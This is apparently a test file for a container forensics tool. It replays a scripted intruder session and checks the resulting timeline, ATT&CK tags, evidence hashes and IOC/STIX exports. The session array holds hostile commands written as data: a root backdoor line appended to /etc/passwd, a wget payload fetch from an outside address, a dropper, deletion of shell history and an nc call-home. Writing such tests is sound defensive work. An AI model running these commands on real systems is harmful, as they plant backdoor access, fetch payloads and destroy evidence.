// A scripted intrusion into a real container, recorded as a responder would (capture, isolate, snapshot, diff),
// then read back as one timeline: the attacker's steps in order, with their ATT&CK techniques and evidence hashes.
import { createHash } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ManifestItem } from '../../src/forensics/common/case-model.js';
import type { TimelineEvent } from '../../src/forensics/common/timeline-model.js';
import { runHoldcell } from '../support/holdcell-cli.js';
import { ok, recordIncident, removeIncident, type RecordedIncident } from '../support/scripted-incident.js';

/** The intruder's session, one step per line; `sleep 2` first so strace is attached before it starts. */
const SESSION = [
  'sleep 2',
  "sh -c 'echo shell-spawned'",
  "printf '#!/bin/sh\\necho dropper-ran\\n' > /tmp/dropper.sh",
  'chmod 755 /tmp/dropper.sh',
  '/tmp/dropper.sh',
  "echo 'evil:x:0:0::/root:/bin/sh' >> /etc/passwd",
  'wget -q -O /tmp/payload http://203.0.113.7/payload || echo download-failed',
  'mkdir -p /root',
  'echo ls > /root/.ash_history',
  'rm -f /root/.ash_history',
  'nc 127.0.0.1 4444 </dev/null || echo call-home-failed',
  'sleep 600',
];

const parseLines = <T>(text: string): T[] =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as T);

describe('the timeline of a scripted incident on the local engine', () => {
  let casesRoot: string;
  let caseDir: string;
  let out: string;
  let incident: RecordedIncident | undefined;
  let events: TimelineEvent[];
  let jsonOutput: string;
  let items: ManifestItem[];

  beforeAll(async () => {
    incident = await recordIncident('timeline-incident', SESSION);
    ({ casesRoot, caseDir } = incident);
    out = join(casesRoot, 'exports');
    ok(await runHoldcell(['diff', caseDir, '--json'], { timeoutMs: 60_000 }), 'diff');
    jsonOutput = ok(
      await runHoldcell(['timeline', caseDir, '--json'], { timeoutMs: 60_000 }),
      'timeline --json',
    ).stdout;
    events = parseLines<TimelineEvent>(jsonOutput);
    items = (JSON.parse(await readFile(join(caseDir, 'manifest.json'), 'utf8')) as { items: ManifestItem[] }).items;
  }, 300_000);

  afterAll(() => removeIncident(incident));

  /** Position of the first event matching, failing with the kinds seen when there is none. */
  function step(
    description: string,
    match: (event: TimelineEvent) => boolean,
  ): { index: number; event: TimelineEvent } {
    const index = events.findIndex(match);
    expect(index, `${description} not on the timeline`).toBeGreaterThanOrEqual(0);
    return { index, event: events[index] as TimelineEvent };
  }

  it('then the scripted steps appear in the order they ran, each with its technique', () => {
    const exec = (text: string) => (event: TimelineEvent) =>
      event.source === 'syscall' && event.kind === 'process.exec' && (event.subject.process ?? '').startsWith(text);
    const file = (kind: string, path: string) => (event: TimelineEvent) =>
      event.source === 'syscall' && event.kind === kind && event.subject.path === path;
    const steps = [
      { what: 'shell', ...step('sh -c', exec('sh -c echo shell-spawned')), technique: 'T1059.004' },
      {
        what: 'dropper written',
        ...step('write of the dropper', file('file.write', '/tmp/dropper.sh')),
        technique: undefined,
      },
      {
        what: 'dropper armed',
        ...step('chmod of the dropper', file('file.chmod', '/tmp/dropper.sh')),
        technique: 'T1105',
      },
      { what: 'dropper run', ...step('exec of the dropper', exec('/tmp/dropper.sh')), technique: 'T1105' },
      {
        what: 'passwd written',
        ...step('write to /etc/passwd', file('file.write', '/etc/passwd')),
        technique: 'T1098',
      },
      { what: 'download', ...step('wget', exec('wget')), technique: 'T1105' },
      {
        what: 'download connect',
        ...step(
          'connect to 203.0.113.7',
          (event) => event.kind === 'network.connect' && event.subject.address === '203.0.113.7',
        ),
        technique: undefined,
      },
      {
        what: 'history removed',
        ...step('unlink of the history', file('file.unlink', '/root/.ash_history')),
        technique: 'T1070.003',
      },
      { what: 'call home', ...step('nc', exec('nc 127.0.0.1 4444')), technique: 'T1105' },
    ];
    const indexes = steps.map((entry) => entry.index);
    expect(indexes).toEqual([...indexes].sort((a, b) => a - b));
    for (const entry of steps) {
      if (entry.technique !== undefined) expect(entry.event.techniques, entry.what).toContain(entry.technique);
    }
    expect(steps.find((entry) => entry.what === 'download connect')?.event).toMatchObject({
      subject: { port: 80 },
      attributes: { result: 'ENETUNREACH' },
    });
    const refused = step(
      'refused call home',
      (event) => event.kind === 'network.connect' && event.subject.port === 4444,
    );
    expect(refused.event.attributes['result']).toBe('ECONNREFUSED');
  });

  it('then the container started before the attack, and the responder captured, isolated and snapshotted after it', () => {
    const created = step('container created', (event) => event.kind === 'container.created');
    const started = step('container started', (event) => event.kind === 'container.started');
    const captureStart = step('capture start', (event) => event.kind === 'responder.capture.start');
    const shell = step('shell', (event) => event.kind === 'process.exec');
    const pause = step('pause', (event) => event.kind === 'responder.isolate.pause');
    const snapshot = step('snapshot', (event) => event.kind === 'responder.snapshot.start');
    const lastAttack = step('call home', (event) => event.kind === 'network.connect' && event.subject.port === 4444);
    expect(created.index).toBeLessThan(started.index);
    expect(started.index).toBeLessThan(shell.index);
    expect(captureStart.index).toBeLessThan(shell.index);
    expect(lastAttack.index).toBeLessThan(pause.index);
    expect(pause.index).toBeLessThan(snapshot.index);
    expect(pause.event.attributes['operator']).toEqual(expect.any(String));
  });

  it('then the diff and the logs tell the same story: passwd changed (T1098, a uid 0 account), the dropper added, its output logged', () => {
    const passwd = step(
      'passwd in the diff',
      (event) => event.source === 'filesystem' && event.subject.path === '/etc/passwd',
    );
    expect(passwd.event).toMatchObject({ kind: 'file.modified', confidence: 'approximate' });
    expect(passwd.event.techniques).toEqual(expect.arrayContaining(['T1098', 'T1136.001']));
    const dropper = step(
      'dropper in the diff',
      (event) => event.source === 'filesystem' && event.subject.path === '/tmp/dropper.sh',
    );
    expect(dropper.event).toMatchObject({ kind: 'file.added', attributes: { mode: '0755' } });
    const logs = events.filter((event) => event.source === 'container-logs').map((event) => event.summary);
    expect(logs).toEqual(
      expect.arrayContaining(['shell-spawned', 'dropper-ran', 'download-failed', 'call-home-failed']),
    );
  });

  it('then every event cites an evidence item by the hash in the manifest (custody records by their line hash)', async () => {
    const hashes = new Map(items.map((item) => [item.id, item.sha256]));
    const custodyLines = (await readFile(join(caseDir, 'custody.jsonl'), 'utf8')).split('\n').filter(Boolean);
    const lineHashes = new Set(custodyLines.map((line) => createHash('sha256').update(line).digest('hex')));
    for (const event of events) {
      if (event.evidence === null) continue;
      if (event.evidence.itemId === 'custody') expect(lineHashes.has(event.evidence.sha256)).toBe(true);
      else expect(event.evidence.sha256, event.evidence.itemId).toBe(hashes.get(event.evidence.itemId));
    }
    const replayed = events.filter((event) => event.source === 'syscall');
    expect(
      replayed.every((event) => event.replaySeq !== undefined && event.evidence?.locator === `seq ${event.replaySeq}`),
    ).toBe(true);
  });

  it('then the stored timeline is those bytes, and asking again or rebuilding gives the same bytes', async () => {
    expect(await readFile(join(caseDir, 'analysis', 'timeline.jsonl'), 'utf8')).toBe(jsonOutput);
    expect(ok(await runHoldcell(['timeline', caseDir, '--json']), 'timeline again').stdout).toBe(jsonOutput);
    expect(ok(await runHoldcell(['timeline', caseDir, '--json', '--rebuild']), 'timeline --rebuild').stdout).toBe(
      jsonOutput,
    );
    ok(await runHoldcell(['verify', caseDir]), 'verify');
  });

  it('then the exports are written: Timesketch lines with the required fields, plaso CSV, IOCs, STIX and the terminal session', async () => {
    const run = ok(
      await runHoldcell([
        'timeline',
        caseDir,
        '--timesketch',
        '--out',
        join(casesRoot, 'timesketch.jsonl'),
        '--iocs',
        join(casesRoot, 'iocs.csv'),
        '--stix',
        join(casesRoot, 'stix.json'),
        '--asciicast',
        out,
      ]),
      'timeline exports',
    );
    expect(run.stdout).toContain(`events     ${events.length} (timesketch)`);
    const sketch = parseLines<Record<string, unknown>>(await readFile(join(casesRoot, 'timesketch.jsonl'), 'utf8'));
    expect(sketch).toHaveLength(events.length);
    for (const line of sketch) {
      expect(typeof line['message']).toBe('string');
      expect(line['datetime']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{9}Z$/);
      expect(String(line['timestamp_desc'])).not.toBe('');
    }

    const csv = ok(await runHoldcell(['timeline', caseDir, '--csv']), 'timeline --csv').stdout.split('\n');
    expect(csv[0]).toBe('datetime,timestamp_desc,source,source_long,message,parser,display_name,tag');
    expect(csv.filter(Boolean)).toHaveLength(events.length + 1);

    const dropperHash = (events.find(
      (event) => event.source === 'filesystem' && event.subject.path === '/tmp/dropper.sh',
    )?.attributes['sha256'] ?? '') as string;
    expect(dropperHash).toMatch(/^[0-9a-f]{64}$/);
    const iocs = await readFile(join(casesRoot, 'iocs.csv'), 'utf8');
    expect(iocs).toContain('endpoint,203.0.113.7:80,public,');
    expect(iocs).toContain(`sha256,${dropperHash},,/tmp/dropper.sh,`);
    expect(iocs).toContain('url,http://203.0.113.7/payload,');
    const stix = JSON.parse(await readFile(join(casesRoot, 'stix.json'), 'utf8')) as {
      type: string;
      objects: { pattern?: string }[];
    };
    expect(stix.type).toBe('bundle');
    expect(stix.objects.map((object) => object.pattern)).toContain(`[file:hashes.'SHA-256' = '${dropperHash}']`);

    const casts = await readdir(out);
    expect(casts.length).toBeGreaterThanOrEqual(1);
    const screen = (await Promise.all(casts.map((name) => readFile(join(out, name), 'utf8')))).join('');
    expect(screen).toContain('dropper-ran');
    expect(JSON.parse(screen.split('\n')[0] as string)).toMatchObject({ version: 2 });
  });
});
